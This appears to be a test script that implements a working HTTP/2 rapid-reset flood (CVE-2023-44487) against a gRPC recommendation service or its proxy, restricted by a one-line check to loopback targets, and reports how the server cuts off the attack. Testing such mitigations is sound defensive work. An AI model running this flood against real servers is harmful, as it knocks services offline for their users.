#!/usr/bin/python3
"""HTTP/2 rapid-reset client (CVE-2023-44487) against recd or the edge.

One h2c connection (prior knowledge). In a loop, as fast as it can: HEADERS
for /recd.v1.Recommender/RecommendItems with gRPC's headers, a small gRPC
request (RecommendRequest{user_id: "u1", k: 5}) unless --no-body, then at
once RST_STREAM(CANCEL). The client never has more than one stream open, so
the peer's SETTINGS_MAX_CONCURRENT_STREAMS never refuses it: that is the
attack. It reads what the peer sends (SETTINGS, PING, WINDOW_UPDATE,
answers, RST_STREAM, GOAWAY) between batches and prints one JSON object:
streams sent, per connection how many got out before the peer closed it
(GOAWAY or EOF), the answers' :status / grpc-status, RST_STREAMs received.

  tests/haproxy/rapid_reset.py --target 127.0.0.1:50051 --seconds 10 [--source 127.0.0.2] [--reconnect]

Frames are built once with hyperframe/hpack (Debian's python3-h2) and only
their stream ids patched, so the client spends its time sending, as an
attacker would; headers are encoded never-indexed so every HEADERS block is
the same bytes. Loopback targets only: this is a test tool.
"""
import argparse
import errno
import json
import select
import socket
import struct
import sys
import time

from hpack import Decoder, Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame,
                              SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
MAX_STREAM_ID = 2**31 - 1
BATCH = 32  # streams per write; reads in between


def grpc_body(user_id="u1", k=5):
    """RecommendRequest{user_id, k} in a gRPC length-prefixed message."""
    uid = user_id.encode()
    msg = b"\x0a" + bytes([len(uid)]) + uid + b"\x10" + bytes([k])
    return b"\x00" + struct.pack(">I", len(msg)) + msg


def stream_template(authority, body):
    """Bytes of HEADERS [+ DATA] + RST_STREAM for stream 1, and the offsets
    of the three 4-byte stream-id fields to patch."""
    headers = [(":method", "POST"), (":scheme", "http"), (":authority", authority),
               (":path", "/recd.v1.Recommender/RecommendItems"), ("content-type", "application/grpc"),
               ("te", "trailers"), ("user-agent", "recd-rapid-reset-test")]
    block = Encoder().encode([NeverIndexedHeaderTuple(n, v) for n, v in headers])
    frames = [HeadersFrame(1, data=block, flags=["END_HEADERS"] + ([] if body else ["END_STREAM"]))]
    if body:
        frames.append(DataFrame(1, data=body, flags=["END_STREAM"]))
    frames.append(RstStreamFrame(1, error_code=CANCEL))
    out, offsets = b"", []
    for f in frames:
        offsets.append(len(out) + 5)
        out += f.serialize()
    return bytearray(out), offsets


class Connection:
    """One attacking connection and what the peer did to it."""

    def __init__(self, args, body):
        self.args = args
        self.body = body
        self.sent = 0
        self.closed_by = None  # "goaway", "eof", "reset", "refused" or None (still open at the end)
        self.goaway = None
        self.statuses = {}
        self.grpc_statuses = {}
        self.rst_received = {}
        self.frames_received = {}
        self.window = 65535  # connection-level send window (DATA bytes)
        self.next_id = 1
        self.inbuf = b""
        self.decoder = Decoder()
        self.decoder.max_allowed_table_size = 1 << 16
        self.header_block = {}  # stream id -> fragments until END_HEADERS
        self.sock = None

    def open(self):
        host, port = self.args.target.rsplit(":", 1)
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if self.args.source:
            s.bind((self.args.source, 0))
        try:
            s.connect((host, int(port)))
            # Our SETTINGS: a large window so answers never stall on us.
            s.sendall(PREFACE + SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 1 << 20}).serialize()
                      + WindowUpdateFrame(0, window_increment=(1 << 30)).serialize())
        except OSError as e:
            # A proxy refusing at accept lets connect() succeed, then resets.
            self.closed_by = f"refused ({errno.errorcode.get(e.errno, e.errno)})"
            s.close()
            return False
        s.setblocking(False)
        self.sock = s
        return True

    def send(self, data):
        """Sends all of data, reading while the socket is full. False once the peer closed."""
        view = memoryview(data)
        while view:
            try:
                n = self.sock.send(view)
                view = view[n:]
            except BlockingIOError:
                r, w, _ = select.select([self.sock], [self.sock], [], 1.0)
                if r and not self.read():
                    return False
            except (ConnectionResetError, BrokenPipeError):
                self.closed_by = self.closed_by or "reset"
                return False
        return True

    def read(self):
        """Reads and handles whatever has arrived. False once the peer closed."""
        while True:
            try:
                chunk = self.sock.recv(1 << 18)
            except BlockingIOError:
                break
            except ConnectionResetError:
                self.closed_by = self.closed_by or "reset"
                return False
            if not chunk:
                self.closed_by = self.closed_by or "eof"
                return False
            self.inbuf += chunk
        replies = b""
        while len(self.inbuf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.inbuf[:9]))
            if len(self.inbuf) < 9 + length:
                break
            frame.parse_body(memoryview(self.inbuf[9:9 + length]))
            self.inbuf = self.inbuf[9 + length:]
            replies += self.handle(frame)
        if replies:
            try:
                self.sock.sendall(replies)
            except (BlockingIOError, OSError):
                pass  # best effort; the peer's timers decide
        return self.goaway is None

    def handle(self, frame):
        name = type(frame).__name__.replace("Frame", "")
        self.frames_received[name] = self.frames_received.get(name, 0) + 1
        if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            return SettingsFrame(0, flags=["ACK"]).serialize()
        if isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            return PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]).serialize()
        if isinstance(frame, WindowUpdateFrame) and frame.stream_id == 0:
            self.window += frame.window_increment
        elif isinstance(frame, RstStreamFrame):
            self.rst_received[frame.error_code] = self.rst_received.get(frame.error_code, 0) + 1
        elif isinstance(frame, GoAwayFrame):
            self.goaway = {"error_code": frame.error_code, "last_stream_id": frame.last_stream_id,
                           "debug": bytes(frame.additional_data).decode("latin-1")}
            self.closed_by = "goaway"
        elif name in ("Headers", "Continuation"):
            frags = self.header_block.setdefault(frame.stream_id, [])
            frags.append(bytes(frame.data))
            if "END_HEADERS" in frame.flags:
                for n, v in self.decoder.decode(b"".join(self.header_block.pop(frame.stream_id))):
                    n = n.decode() if isinstance(n, bytes) else n
                    v = v.decode() if isinstance(v, bytes) else v
                    if n == ":status":
                        self.statuses[v] = self.statuses.get(v, 0) + 1
                    elif n == "grpc-status":
                        self.grpc_statuses[v] = self.grpc_statuses.get(v, 0) + 1
        return b""

    def run(self, template, offsets, deadline):
        """Sends streams until the deadline or the peer closes."""
        per_stream = len(template)
        batch = bytearray(per_stream * BATCH)
        while time.monotonic() < deadline and self.next_id + 2 * BATCH < MAX_STREAM_ID:
            data_bytes = len(self.body) * BATCH
            if self.body and self.window < data_bytes:
                # Honour flow control (the peer returns the window of reset
                # streams' DATA): wait for WINDOW_UPDATE rather than be shut
                # for a flow-control error we caused.
                select.select([self.sock], [], [], 0.05)
                if not self.read():
                    break
                continue
            for i in range(BATCH):
                sid = struct.pack(">I", self.next_id)
                for off in offsets:
                    template[off:off + 4] = sid
                batch[i * per_stream:(i + 1) * per_stream] = template
                self.next_id += 2
            self.window -= data_bytes
            if not self.send(batch):
                break
            self.sent += BATCH
            if not self.read():
                break
        if self.closed_by is None:
            # Give the peer a moment to answer what it got, then count it.
            end = time.monotonic() + 0.2
            while time.monotonic() < end and self.read():
                select.select([self.sock], [], [], 0.05)
        self.sock.close()

    def report(self):
        return {"streams_sent": self.sent, "closed_by": self.closed_by, "goaway": self.goaway,
                "statuses": self.statuses, "grpc_statuses": self.grpc_statuses,
                "rst_stream_received": {str(k): v for k, v in self.rst_received.items()},
                "frames_received": self.frames_received}


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--target", required=True, help="HOST:PORT (h2c, prior knowledge)")
    p.add_argument("--source", help="local address to bind, e.g. 127.0.0.2 (a per-address limit sees it apart)")
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--reconnect", action="store_true", help="open a new connection when the peer closes one")
    p.add_argument("--no-body", action="store_true", help="HEADERS (END_STREAM) + RST_STREAM only")
    args = p.parse_args()
    host = args.target.rsplit(":", 1)[0]
    if not (host.startswith("127.") or host in ("localhost", "::1")):
        sys.exit("rapid_reset.py: loopback targets only")
    body = b"" if args.no_body else grpc_body()
    template, offsets = stream_template(args.target, body)
    start = time.monotonic()
    deadline = start + args.seconds
    conns = []
    while time.monotonic() < deadline:
        c = Connection(args, body)
        conns.append(c)
        if c.open():
            c.run(template, offsets, deadline)
        if not args.reconnect:
            break
        if c.sent == 0:
            time.sleep(0.05)  # refused at once: do not spin on connect()
    elapsed = time.monotonic() - start
    sent = sum(c.sent for c in conns)
    print(json.dumps({"target": args.target, "seconds": round(elapsed, 2), "streams_sent": sent,
                      "streams_per_second": round(sent / elapsed), "connections": len(conns),
                      "with_body": bool(body), "per_connection": [c.report() for c in conns]}))


if __name__ == "__main__":
    main()
